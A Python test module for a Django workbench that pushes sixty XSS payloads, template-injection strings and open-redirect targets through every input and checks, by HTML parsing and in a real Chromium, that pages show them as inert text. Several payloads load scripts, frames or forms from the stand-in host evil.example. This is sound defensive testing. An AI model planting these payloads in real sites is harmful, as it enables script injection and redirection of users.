"""A post is hostile text, and so is everything else somebody typed: shown as written, never obeyed.

Sixty payloads go through every field a stranger or a colleague can fill, and come out on every page that shows it. First the pages are
taken apart (no element, attribute or address may come from a payload, and the text must be the payload itself), then the fullest
of them are opened in a real Chromium, which must see no dialog, no stopped script and no request to anybody else.
"""

from __future__ import annotations

import logging
import mimetypes
import re
import threading
import uuid
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from datetime import timedelta
from functools import lru_cache
from html import escape
from html.parser import HTMLParser
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import quote, urlsplit

import pytest
from bs4 import BeautifulSoup, SoupStrainer
from django.contrib.staticfiles import finders
from django.db import transaction
from django.http import HttpResponse
from django.test import Client
from django.urls import reverse
from playwright.sync_api import Page

from patrol import cases, domain, models, triage
from patrol.cases import attachments
from patrol.engine import masks
from patrol.models import Role
from patrol.pipeline import assessing
from reports import summary
from reports.period import IsoWeek
from tests import factories, markup
from tests.browser import chromium

NOW = factories.NOW + timedelta(hours=1)

# All below 100 characters, the shortest field they go through. What they would do if obeyed: alert, or call evil.example.
PAYLOADS: tuple[str, ...] = (
    "<script>alert(1)</script>",
    "</script><script>alert(2)</script>",
    "<SCRIPT SRC=//evil.example/3.js></SCRIPT>",
    "<scr<script>ipt>alert(4)</scr</script>ipt>",
    "<script/x>alert(5)</script>",
    "<img src=x onerror=alert(6)>",
    "<IMG SRC=x OnErRoR=alert(7)>",
    "<img/src=x/onerror=alert(8)>",
    "<img src=x onerror\n=alert(9)>",
    "<img src=//evil.example/10.png>",
    '<img src="x` `<script>alert(11)</script>"` `>',
    "<svg onload=alert(12)>",
    "<svg/onload=alert(13)//",
    "<svg><script>alert(14)</script></svg>",
    "<svg><animate onbegin=alert(15) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(16)><text y=9>x</text></a></svg>",
    "<math href=javascript:alert(17)>x</math>",
    "<iframe src=javascript:alert(18)></iframe>",
    "<iframe srcdoc='<script>alert(19)</script>'></iframe>",
    "<iframe src=//evil.example/20></iframe>",
    "<object data=//evil.example/21></object>",
    "<embed src=//evil.example/22>",
    "<base href=//evil.example/23/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/24'>",
    "<link rel=stylesheet href=//evil.example/25.css>",
    "<style>@import '//evil.example/26.css';</style>",
    "</style><script>alert(27)</script>",
    "<body onload=alert(28)>",
    "<details open ontoggle=alert(29)>",
    "<input autofocus onfocus=alert(30)>",
    "<select autofocus onfocus=alert(31)></select>",
    "<textarea autofocus onfocus=alert(32)></textarea>",
    "</textarea><script>alert(33)</script>",
    "</title><script>alert(34)</script>",
    "<video><source onerror=alert(35)></video>",
    "<audio src=x onerror=alert(36)>",
    "<marquee onstart=alert(37)>x</marquee>",
    "<form action=//evil.example/38><button>x</button></form>",
    "<button formaction=javascript:alert(39)>x</button>",
    "<a href=javascript:alert(40)>x</a>",
    "<a href='java\tscript:alert(41)'>x</a>",
    "<a href=data:text/html,<script>alert(42)</script>>x</a>",
    "<a href=//evil.example/43 target=_blank>x</a>",
    "<div x-data x-init=alert(44)></div>",
    "<div x-data @mouseover=alert(45)>x</div>",
    "<div hx-get=//evil.example/46 hx-trigger=load></div>",
    "<template x-if=alert(47)></template>",
    "<x onclick=alert(48)>x</x>",
    "<noscript><p title='</noscript><img src=x onerror=alert(49)>'>",
    "<!--><img src=x onerror=alert(50)>-->",
    "--><script>alert(51)</script><!--",
    '"><script>alert(52)</script>',
    "'><script>alert(53)</script>",
    '" onmouseover=alert(54) x="',
    "' onfocus=alert(55) autofocus x='",
    '" style=background:url(//evil.example/56) x="',
    '" x-init="alert(57)',
    "javascript:alert(58)",
    "data:text/html,<script>alert(59)</script>",
    "JaVaScRiPt://%0aalert(60)",
)
# Words of other languages that a careless page would fill in: nothing happens, and they stand there as written.
FORMULAS = ("{{ 7*7 }}", "{% debug %}", "${7*7}", "%(title)s %s %d %", "{0.__class__} {title}", "&lt;b&gt; &amp; &#60;")
ALL = (*PAYLOADS, *FORMULAS)


# --- taking a page apart ----------------------------------------------------------------------------

_ADDRESSES = {"href", "src", "action", "formaction", "data", "xlink:href", "poster", "srcset", "background", "srcdoc", "ping"}
_NEVER = {"iframe", "object", "embed", "base", "marquee", "audio", "video", "math", "noscript", "animate", "template", "x", "source", "img"}
# Of a post whose contacts are shown: loaded again where no script can empty the page. It names no address.
_OWN_RELOAD = re.compile(r'<noscript>\s*<meta http-equiv="refresh" content="\d+">\s*</noscript>')


class Apart(HTMLParser):
    """What a payload could have left on a page of the workbench, and what a person reads there, values of form fields and tooltips
    included. Read in one pass, without a tree: a thousand pages go through here.
    """

    def __init__(self, html: str) -> None:
        super().__init__()
        self.faults: list[str] = []
        self._texts: list[str] = []
        self._values: list[str] = []
        self._within = ""  # script or style, as long as it is open
        self._code: list[str] = []
        self._marks = 0  # footnotes that are open
        self.feed(_OWN_RELOAD.sub("", html))
        self.close()
        self._code_ends()
        self.written = "\n".join(["".join(self._texts), *self._values])

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        attributes = {name: value or "" for name, value in attrs}
        self._marks += tag == "sup"
        if tag in {"script", "style"}:
            self._code_ends()
            self._within = tag
        if tag in _NEVER and not (tag == "img" and attributes.get("src", "").startswith("/static/")):  # a picture of the product's own
            self.faults.append(f"element {tag}")
        if tag == "script" and not attributes.get("src", "").startswith("/static/"):
            self.faults.append(f"script {attributes}")
        if tag == "meta" and "http-equiv" in attributes:
            self.faults.append(f"meta {attributes}")
        for name, value in attributes.items():
            away = name in _ADDRESSES and (not value.startswith(("/", "?", "#", "./")) or value.startswith("//"))
            words = name.startswith(("x-", "hx-", "@", ":", "style")) and any(word in value for word in ("alert", "evil"))
            if name.startswith("on") or away or words:
                self.faults.append(f"{tag} {name}={value}")
        if not self._marks:
            self._values += [attributes[name] for name in ("value", "title") if name in attributes]

    def handle_endtag(self, tag: str) -> None:
        self._marks -= tag == "sup"
        if tag == self._within:
            self._code_ends()

    def handle_data(self, data: str) -> None:
        if self._within:
            self._code.append(data)
        elif not self._marks:
            self._texts.append(data)

    def _code_ends(self) -> None:
        code = "".join(self._code)
        if self._within == "script" and code.strip():
            self.faults.append(f"script {code}")
        if self._within == "style" and any(word in code for word in ("evil", "alert")):
            self.faults.append("style")
        self._within, self._code = "", []


@lru_cache(maxsize=200)
def apart(html: str) -> tuple[list[str], str]:
    """`faults` and `written`, for one page after the other or for those of a list together."""
    page = Apart(html)
    return page.faults, page.written


def faults(html: str) -> list[str]:
    return apart(html)[0]


PLACES = ("<p>{}</p>", '<input value="{}">', "<input value='{}'>", "<a href={}>x</a>", "<style>{}</style>", "<title>{}</title>")


@pytest.mark.parametrize("payload", [*PAYLOADS])
def test_each_payload_is_seen_where_a_page_obeys_it(payload: str) -> None:
    """The positive control of `faults`: put unescaped into one of the usual places, every payload leaves a trace."""
    assert any(faults(place.format(payload)) for place in PLACES)
    assert [place for place in PLACES if faults(place.format("Kasus 12: gaji 5 juta"))] == ["<a href={}>x</a>"]


# --- a world full of them ---------------------------------------------------------------------------


@dataclass
class World:
    people: dict[str, models.Person]
    flags: list[models.Flag]
    texts: list[str]
    cases: list[models.Case]
    watches: list[models.Watch]
    edition: models.RegisterEdition
    summaries: list[Any]
    full: models.Flag  # one post that holds all payloads
    full_case: models.Case  # one case whose notes hold all of them


def raw(number: int, payload: str) -> domain.RawPost:
    base = factories.illegal(number)
    return factories.raw_post(
        f"{base.text}\n{payload}\nPT Contoh {payload} siap proses.",
        author=payload.lower(),
        author_name=payload,
        origin=payload,
        url=f"https://t.me/saluran_contoh/{number}?x={payload}",
        links=(payload, f"https://evil.example/{payload}"),
        posted_at_source=payload,
        forward_name=payload,
        forward_of=payload,
        locator=payload,
        media=(domain.MediaReference(payload[:20], payload),),
    )


def confirm(flag: models.Flag, note: str, by: models.Person) -> None:
    triage.decide(
        flag_id=flag.pk,
        outcome="confirmed",
        reason="several",
        note=note,
        decision_key=uuid.uuid4(),
        seen_version=flag.version,
        by=by,
        now=NOW,
    )


def built() -> World:
    offices = factories.offices()
    people = {role.value: factories.person(role, name=f"Orang {role}") for role in Role}
    people["supervisor"] = factories.person(Role.SUPERVISOR, "directorate")
    analyst = people["analyst"]
    for number, payload in enumerate(ALL):
        factories.person(username=f"orang.contoh{number}", name=payload)
    for office, payload in zip(offices.values(), PAYLOADS, strict=False):
        models.Office.objects.filter(pk=office.pk).update(name=payload, short_name=payload[:30])
    models.RegisterEdition.objects.create(
        number=1,
        register_date=NOW.date(),
        imported_at=NOW,
        difference={},
        files=[{"name": payload, "sha256": "0" * 64, "rows": 1, "length": 1} for payload in ALL],
    )
    edition = factories.register(
        [
            {
                "name": f"PT Contoh {payload}",
                "aliases": [payload],
                "sip3mi_number": payload,
                "province": payload,
                "city": payload,
                "address": payload,
                "phones": [payload],
                "websites": [payload],
                "accounts": [payload],
                "standings": [("suspended", "2020-01-01", None, payload)],
            }
            for payload in ALL
        ],
        [
            {"number": payload, "agency": f"PT Contoh {payload}", "country": "MY", "positions": [payload], "employer": payload}
            for payload in ALL
        ],
    )
    problem, office = {"code": "x", "permanent": True}, factories.office()
    stations = [models.Station.objects.create(office=office, name=payload, town=payload) for payload in ALL]
    watches = [
        factories.watch(
            station=stations[number],
            name=payload,
            last_problem={**problem, "id": payload, "en": payload},
            last_problem_at=NOW,
            query=f"saluran_jahat_{number}",
        )
        for number, payload in enumerate(ALL)
    ]
    for watch, payload in zip(watches, ALL, strict=True):
        factories.fetch(watch, problems=[{**problem, "id": payload, "en": payload, "where": payload}], outcome="failed", ended_at=NOW)
    posts = [raw(number, payload) for number, payload in enumerate(ALL, 1)]
    posts.append(factories.raw_post(factories.illegal(999).text + "\n" + "\n".join(ALL)))
    kept = factories.stored(posts)
    while assessing.read_due(now=factories.NOW, limit=500).read:
        pass
    found = {flag.post_id: flag for flag in models.Flag.objects.select_related("office")}
    flags = [found[post.pk] for post in kept]
    opened = []
    for flag, payload in zip(flags[:-1], ALL, strict=True):
        confirm(flag, payload, analyst)
        opened.append(cases.open_case(flag_ids=[flag.pk], title=payload, by=analyst, now=NOW))
        cases.note(case_id=opened[-1].pk, text=payload, sent=False, by=analyst, now=NOW)
        attachments.attach_file(case_id=opened[-1].pk, content=payload.encode(), title=payload, seen_by="both", by=analyst, now=NOW)
    for payload in ALL:
        cases.note(case_id=opened[0].pk, text=payload, sent=True, by=analyst, now=NOW)
    notes = [" | ".join(ALL[start : start + 6]) for start in range(0, len(ALL), 6)]
    week = IsoWeek(2026, 45)
    summaries = [
        summary.freeze(office_id=None, period=week.shifted(-back), note=note, by=people["supervisor"], now=NOW)
        for back, note in enumerate(notes)
    ]
    return World(people, flags[:-1], [post.text for post in posts], opened, watches, edition, summaries, flags[-1], opened[0])


@pytest.fixture(scope="module")
def kept_world(django_db_setup: None, django_db_blocker: Any) -> Iterator[World]:
    with django_db_blocker.unblock(), transaction.atomic():
        yield built()
        transaction.set_rollback(True)


@pytest.fixture
def world(kept_world: World, monkeypatch: pytest.MonkeyPatch) -> Iterator[World]:
    monkeypatch.setattr("django.utils.timezone.now", lambda: NOW)
    monkeypatch.setattr(logging.getLogger("django.request"), "disabled", True)
    with transaction.atomic():
        yield kept_world
        transaction.set_rollback(True)


def entered(world: World, role: Role) -> Client:
    client = Client()
    client.force_login(world.people[role.value])
    return client


def address(name: str, *parts: Any, **query: Any) -> str:
    return reverse(f"admin:{name}", args=parts, query=query or None)


def text_of(response: Any) -> str:
    assert response.status_code == 200
    return str(response.content.decode())


def every_page(client: Client, url: str) -> Iterator[tuple[str, str]]:
    """The pages of a list, one after the other, as far as its own pager leads."""
    while url:
        html = text_of(client.get(url))
        yield url, html
        following = BeautifulSoup(html, "html.parser", parse_only=SoupStrainer("a", rel="next")).a
        url = str(following["href"]) if following else ""


def origin_of(page: BeautifulSoup) -> str:
    """Who wrote a post and where it stood, as its page says it."""
    return markup.only(page, ".meta").get_text()


# What the law of masks leaves of those payloads that hold an address or an @name, written out by hand: a place and dots, or dots.
MASKED: dict[str, str] = {
    "<SCRIPT SRC=//evil.example/3.js></SCRIPT>": "<SCRIPT SRC=//evil.example/••••",
    "<img src=//evil.example/10.png>": "<img src=//evil.example/••••",
    "<iframe src=//evil.example/20></iframe>": "<iframe src=//evil.example/••••",
    "<object data=//evil.example/21></object>": "<object data=//evil.example/••••",
    "<embed src=//evil.example/22>": "<embed src=//evil.example/••••",
    "<base href=//evil.example/23/>": "<base href=//evil.example/••••",
    "<meta http-equiv=refresh content='0;url=//evil.example/24'>": "<meta http-equiv=refresh content='0;url=//evil.example/••••",
    "<link rel=stylesheet href=//evil.example/25.css>": "<link rel=stylesheet href=//evil.example/••••",
    "<style>@import '//evil.example/26.css';</style>": "<style>•••• '//evil.example/••••",
    "<form action=//evil.example/38><button>x</button></form>": "<form action=//evil.example/••••",
    "<a href=//evil.example/43 target=_blank>x</a>": "<a href=//evil.example/•••• target=_blank>x</a>",
    "<div x-data @mouseover=alert(45)>x</div>": "<div x-data ••••=alert(45)>x</div>",
    "<div hx-get=//evil.example/46 hx-trigger=load></div>": "<div hx-get=//evil.example/•••• hx-trigger=load></div>",
    '" style=background:url(//evil.example/56) x="': '" style=background:url(//evil.example/••••) x="',
    "JaVaScRiPt://%0aalert(60)": "%0aalert(60)",
}


def missing(texts: list[str], *, masked: bool = True, wanted: tuple[str, ...] = ALL) -> list[str]:
    """Payloads that stand on none of these pages as they must: letter by letter, but for what is MASKED where the page masks."""
    together = "\n".join(apart(html)[1] for html in texts)
    return [one for one in wanted if (MASKED.get(one, one) if masked else one) not in together]


def test_a_payload_that_is_dropped_or_changed_is_missed() -> None:
    """The control of `missing`, each payload alone: gone, cut, masked where it must not be, and not masked where it must be."""
    page = "<p>" + "</p>\n<p>".join(escape(MASKED.get(one, one)) for one in ALL) + "</p>"
    assert (missing([page]), missing([page], masked=False)) == ([], list(MASKED))
    open_page = "<p>" + "</p>\n<p>".join(map(escape, ALL)) + "</p>"
    apart = [one for one, shown in MASKED.items() if shown not in one]
    assert (missing([open_page]), missing([open_page], masked=False)) == (apart, [])
    assert len(apart) == len(MASKED) - 1
    for one in ALL:
        shown = MASKED.get(one, one)
        for changed in ("", masks.MIDDLE, shown[:-1], shown[1:]):
            assert missing([page.replace(f"<p>{escape(shown)}</p>", f"<p>{escape(changed)}</p>")]) == [one]


# --- every page, taken apart ------------------------------------------------------------------------


def test_the_page_of_a_post_shows_its_text_letter_by_letter(world: World) -> None:
    client = entered(world, Role.ANALYST)
    wrong = []
    for flag, payload, text in zip([*world.flags, world.full], [*ALL, ALL[0]], world.texts, strict=True):
        client.post(address("patrol_flag_take", flag.pk))
        client.post(address("patrol_flag_show", flag.pk), {"purpose": "comparison"})
        html = text_of(client.get(address("patrol_flag_change", flag.pk)))
        page = BeautifulSoup(html, "html.parser")
        for mark in page.select(".ptx sup"):
            mark.decompose()
        shown = page.select_one(".ptx")
        assert shown is not None
        wrong += [f"{payload}: {fault}" for fault in faults(html)]
        wrong += [] if shown.get_text() == text else [f"{payload}: {shown.get_text()!r}"]
        wrong += [] if payload in origin_of(page) or flag is world.full else [f"{payload}: not shown"]
    assert wrong == []


def test_authors_origins_and_addresses_are_masked_and_text_for_whoever_does_not_hold_the_flag(world: World) -> None:
    client = entered(world, Role.ANALYST)
    wrong, shown = [], []
    for flag, payload in zip(world.flags, ALL, strict=True):
        html = text_of(client.get(address("patrol_flag_change", flag.pk)))
        wrong += [f"{payload}: {fault}" for fault in faults(html)]
        page = BeautifulSoup(html, "html.parser", parse_only=SoupStrainer(class_="meta"))
        shown += [payload] if payload in origin_of(page).replace(flag.office.name, "") else []
    assert (wrong, shown) == ([], [])


@pytest.mark.parametrize(
    ("role", "name", "parts"),
    [
        (Role.ANALYST, "patrol_case_changelist", "masked"),
        (Role.ADMINISTRATOR, "patrol_watch_changelist", "masked"),
        (Role.ADMINISTRATOR, "patrol_station_changelist", "masked"),
        (Role.ADMINISTRATOR, "patrol_person_changelist", "exact"),
        (Role.REGISTRAR, "patrol_agency_changelist", "exact"),
        (Role.REGISTRAR, "patrol_licence_changelist", "exact"),
        (Role.REGISTRAR, "patrol_registeredition_changelist", "exact"),
        (Role.ADMINISTRATOR, "patrol_office_changelist", ""),
        (Role.ADMINISTRATOR, "patrol_auditentry_changelist", ""),
        (Role.ANALYST, "patrol_flag_changelist", ""),
        (Role.ANALYST, "patrol_post_changelist", ""),
        (Role.ANALYST, "patrol_indicator_changelist", ""),
        (Role.ANALYST, "reports_weeklysummary_changelist", ""),
        (Role.ANALYST, "index", ""),
        (Role.SUPERVISOR, "index", ""),
        (Role.REGISTRAR, "index", ""),
        (Role.ADMINISTRATOR, "index", ""),
        (Role.DATA_PROTECTION_OFFICER, "patrol_auditentry_changelist", ""),
    ],
)
def test_lists_hold_no_trace(role: Role, name: str, parts: str, world: World) -> None:
    pages = dict(every_page(entered(world, role), address(name)))
    assert {url: faults(html) for url, html in pages.items() if faults(html)} == {}
    if parts:
        assert missing(list(pages.values()), masked=parts == "masked") == []


@pytest.mark.parametrize("what", ["case", "watch", "edit", "agency", "indicator"])
def test_pages_of_one_thing_hold_no_trace(what: str, world: World) -> None:
    role = Role.REGISTRAR if what == "agency" else Role.ANALYST
    client = entered(world, role)
    urls = {
        "case": [address("patrol_case_change", case.pk) for case in world.cases],
        "watch": [address("patrol_watch_change", watch.pk) for watch in world.watches],
        "edit": [address("patrol_watch_edit", watch.pk) for watch in world.watches],
        "agency": [
            address("patrol_agency_change", pk)
            for pk in models.Agency.objects.filter(edition=world.edition).order_by("pk").values_list("pk", flat=True)
        ],
        "indicator": [address("patrol_indicator_change", one.pk) for one in models.Indicator.objects.order_by("pk")[:80]],
    }[what]
    pages = {url: text_of(client.get(url)) for url in urls}
    assert {url: faults(html) for url, html in pages.items() if faults(html)} == {}
    masked = what in {"case", "watch"}
    if what != "indicator":  # the page of each shows its own, not only all pages together all of them
        lost = [missing([shown], masked=masked, wanted=(one,)) for shown, one in zip(pages.values(), ALL, strict=True)]
        assert [one for found in lost for one in found] == []
    if what == "case":
        assert missing([pages[urls[0]]]) == []  # the one with all messages


@pytest.mark.parametrize("page", ["edition", "print"])
def test_the_weekly_summary_holds_no_trace(page: str, world: World) -> None:
    client = entered(world, Role.SUPERVISOR)
    pages = [text_of(client.get(address(f"reports_weeklysummary_{page}", one.pk))) for one in world.summaries]
    assert [fault for html in pages for fault in faults(html)] == []
    assert missing(pages) == []


REFLECTED = {
    "patrol_flag_changelist": ("platform", "level", "after", "office"),
    "patrol_case_changelist": ("state", "after"),
    "patrol_post_changelist": ("kind", "after"),
    "patrol_indicator_changelist": ("kind",),
    "patrol_watch_changelist": ("state",),
    "patrol_agency_changelist": ("q", "standing"),
    "patrol_licence_changelist": ("q", "agency"),
    "patrol_auditentry_changelist": ("after", "which"),
}


@pytest.mark.parametrize("name", REFLECTED)
def test_what_stands_in_an_address_is_not_obeyed(name: str, world: World) -> None:
    """Each payload under each key once; the keys of a page are given together, each with another payload."""
    client = entered(world, Role.ADMINISTRATOR if "audit" in name else Role.ANALYST)
    chosen, wrong = ALL[::6] + PAYLOADS[51:57], []
    for turn in range(len(chosen)):
        query = {key: chosen[(turn + 5 * place) % len(chosen)] for place, key in enumerate(REFLECTED[name])}
        wrong += [f"{query}: {fault}" for fault in faults(text_of(client.get(address(name, **query))))]
    assert wrong == []


def test_what_was_typed_wrongly_comes_back_as_text(world: World) -> None:
    client = entered(world, Role.ADMINISTRATOR)
    wrong = []
    for payload in PAYLOADS[::2] + PAYLOADS[51:57]:
        forms = (
            (address("patrol_watch_add"), {"name": payload, "query": payload, "ask": payload, "every_minutes": payload}),
            (address("patrol_person_add"), {"username": payload, "name": payload, "role": payload}),
            (address("login"), {"username": payload, "password": payload, "next": payload}),
        )
        for url, typed in forms:
            asking = Client() if "login" in url else client
            wrong += [f"{url} {payload}: {fault}" for fault in faults(text_of(asking.post(url, typed)))]
    assert wrong == []


# --- addresses that would lead away -----------------------------------------------------------------

AWAY = (
    "//evil.example",
    "https://evil.example/",
    "http://evil.example",
    "///evil.example",
    "/\\evil.example",
    "\\\\evil.example",
    "http:evil.example",
    "https:///evil.example",
    "javascript:alert(1)",
    "data:text/html,x",
    "//sipatrol.test@evil.example",
    "http://testserver.evil.example/",
    "http://testserver@evil.example/",
    " //evil.example",
    "\t//evil.example",
    "/\t/evil.example",
    "http://[::1",
    "//evil.example:80/kerja/",
    "%2f%2fevil.example",
)


def leads_away(target: str) -> bool:
    """Whether a browser at our address would follow this to somebody else."""
    plain = "".join(letter for letter in target.strip() if letter not in "\t\r\n").replace("\\", "/")
    parts = urlsplit(plain) if not plain.startswith("http://[") else None
    return parts is None or plain.startswith("//") or (bool(parts.scheme) and parts.netloc != "testserver")


@pytest.mark.parametrize("target", AWAY)
def test_no_login_and_no_switch_of_language_leads_away(target: str, world: World) -> None:
    person = models.Person.objects.get(pk=world.people["registrar"].pk)
    person.set_password("kata sandi contoh 47")
    models.Person.objects.filter(pk=person.pk).update(password=person.password)
    typed = {"username": person.username, "password": "kata sandi contoh 47", "next": target}
    answers = [
        Client().post(f"{reverse('admin:login')}?next={quote(target)}", typed),
        Client().post(reverse("admin:login"), typed),
        entered(world, Role.ANALYST).get(f"{reverse('admin:login')}?next={quote(target)}"),
        Client().post(reverse("set_language"), {"language": "en", "next": target}),
        Client().post(reverse("set_language"), {"language": "en"}, headers={"referer": target.strip()}),
    ]
    assert [answer.status_code for answer in answers] == [302] * 5
    assert [answer.headers["Location"] for answer in answers if leads_away(answer.headers["Location"])] == []


def test_login_leads_to_our_own_pages(world: World) -> None:
    """The counterpart: a good address is followed, or the test above would pass with a login that follows nothing."""
    assert leads_away(AWAY[0])
    client = entered(world, Role.ANALYST)
    there = reverse("admin:patrol_case_changelist")
    assert client.get(f"{reverse('admin:login')}?next={there}").headers["Location"] == there


# --- in a real browser ------------------------------------------------------------------------------


def served(world: World) -> dict[str, Any]:
    """The fullest pages as the server answers them, by path and query."""
    full, first = world.full, world.full_case
    triage.take(full.pk, by=world.people["analyst"], now=NOW)
    agency = models.Agency.objects.filter(edition=world.edition).order_by("pk")[5]
    phone = models.Indicator.objects.filter(kind="agency").first() or models.Indicator.objects.first()
    assert phone is not None
    asked: dict[Role, list[str]] = {
        Role.ANALYST: [
            address("index"),
            address("patrol_flag_change", full.pk),
            *(address("patrol_flag_change", flag.pk) for flag in world.flags[::12]),
            address("patrol_case_change", first.pk),
            address("patrol_case_changelist"),
            address("patrol_watch_change", world.watches[5].pk),
            address("patrol_watch_edit", world.watches[51].pk),
            address("patrol_post_changelist"),
            address("patrol_indicator_changelist"),
            address("patrol_indicator_change", phone.pk),
            address("patrol_licence_changelist", q=PAYLOADS[51]),
        ],
        Role.SUPERVISOR: [address("reports_weeklysummary_print", world.summaries[0].pk)]
        + [address("reports_weeklysummary_edition", one.pk) for one in world.summaries[::4]],
        Role.REGISTRAR: [
            address("patrol_agency_changelist"),
            address("patrol_agency_change", agency.pk),
            address("patrol_licence_changelist"),
            address("patrol_registeredition_changelist"),
        ],
        Role.ADMINISTRATOR: [
            address("patrol_watch_changelist"),
            address("patrol_person_changelist"),
            address("patrol_office_changelist"),
            address("patrol_auditentry_changelist"),
        ],
    }
    pages: dict[str, Any] = {}
    for role, urls in asked.items():
        client = entered(world, role)
        pages |= {url: client.get(url) for url in urls}
    return pages


@lru_cache
def static(path: str) -> tuple[bytes, str] | None:
    """A file of the product and its kind, kept: each page asks for the same thirty."""
    found = finders.find(path.removeprefix("/static/")) if path.startswith("/static/") else None
    return (Path(found).read_bytes(), mimetypes.guess_type(found)[0] or "application/octet-stream") if found else None


class Outside(ThreadingHTTPServer):
    """Stands where the product would: its pages and static files from memory, the files kept by the browser from page to page, and a
    note of whatever else is asked for."""

    def __init__(self, pages: dict[str, Any]) -> None:
        super().__init__(("127.0.0.1", 0), Answer)
        self.here = f"http://localhost:{self.server_port}"  # a browser trusts it without TLS
        self.pages, self.asked = pages, list[str]()

    def note(self, url: str) -> None:
        parts = urlsplit(url)
        if parts.scheme not in {"data", "blob"} and f"{parts.scheme}://{parts.netloc}" != self.here:
            self.asked.append(url)


class Answer(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    server: Outside

    def do_GET(self) -> None:
        if response := self.server.pages.get(self.path):
            self.say(response.status_code, dict(response.headers), response.content)
        elif kept := static(self.path.partition("?")[0]):
            self.say(200, {"Content-Type": kept[1], "Cache-Control": "max-age=3600"}, kept[0])
        else:
            self.unforeseen()

    def do_POST(self) -> None:
        """Of a page nobody has touched: a report of its policy. But a finding that is left is given back."""
        if self.path.endswith("/lepas/"):
            self.say(204, {}, b"")
        else:
            self.unforeseen()

    def unforeseen(self) -> None:
        self.server.asked.append(self.path)
        self.close_connection = True
        self.say(404, {}, b"")

    def say(self, status: int, headers: dict[str, str], body: bytes) -> None:
        self.send_response_only(status)
        for name, value in headers.items():
            if name.lower() != "content-length":
                self.send_header(name, value)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)


@contextmanager
def outside(pages: dict[str, Any]) -> Iterator[Outside]:
    with Outside(pages) as server:
        thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
        thread.start()
        try:
            yield server
        finally:
            server.shutdown()
            thread.join()


def looked_at(pages: dict[str, Any], picture: Path) -> tuple[list[str], list[str]]:
    """What Chromium complained about and asked for, page by page. On trouble a picture of the page is left."""
    with outside(pages) as server, chromium.opened("--host-resolver-rules=MAP * ~NOTFOUND, EXCLUDE localhost") as browser:
        watcher = chromium.Watcher(urlsplit(server.here).netloc)
        page: Page = watcher.watch(browser.new_page(viewport={"width": 1366, "height": 768}))
        page.set_default_timeout(chromium.PATIENCE)
        page.on("request", lambda request: server.note(request.url))
        for path in pages:
            before = len(watcher.found)
            page.goto(server.here + path)
            page.evaluate("for (const one of document.querySelectorAll('details')) one.open = true")
            if len(watcher.found) > before:
                watcher.found[before:] = [f"{path}: {one}" for one in watcher.found[before:]]
                page.screenshot(path=picture)
        page.close()  # what it still asked for is answered
    return watcher.found, server.asked


@pytest.mark.browser
def test_a_browser_obeys_none_of_it(world: World, tmp_path: Path) -> None:
    pages = served(world)
    assert {url: page.status_code for url, page in pages.items() if page.status_code != 200} == {}
    assert all("Content-Security-Policy" in page.headers for page in pages.values())
    assert missing([page.content.decode() for page in pages.values()]) == []
    assert looked_at(pages, tmp_path / "page.png") == ([], [])


@pytest.mark.browser
def test_the_browser_would_have_told(world: World, tmp_path: Path) -> None:
    """The positive control: the same payloads unescaped, under the workbench's own policy and without any."""
    body = "".join(f"<div>{payload}</div>" for payload in PAYLOADS if "meta" not in payload and "base" not in payload)
    policy = entered(world, Role.ANALYST).get(address("index")).headers["Content-Security-Policy"]
    guarded = HttpResponse(body, headers={"Content-Security-Policy": policy})
    found, _asked = looked_at({"/guarded": guarded}, tmp_path / "guarded.png")
    assert any("script-src" in one for one in found)
    assert not any("dialog" in one for one in found)
    found, asked = looked_at({"/open": HttpResponse(body)}, tmp_path / "open.png")
    assert any("dialog" in one for one in found)
    assert any("evil.example" in one for one in asked)
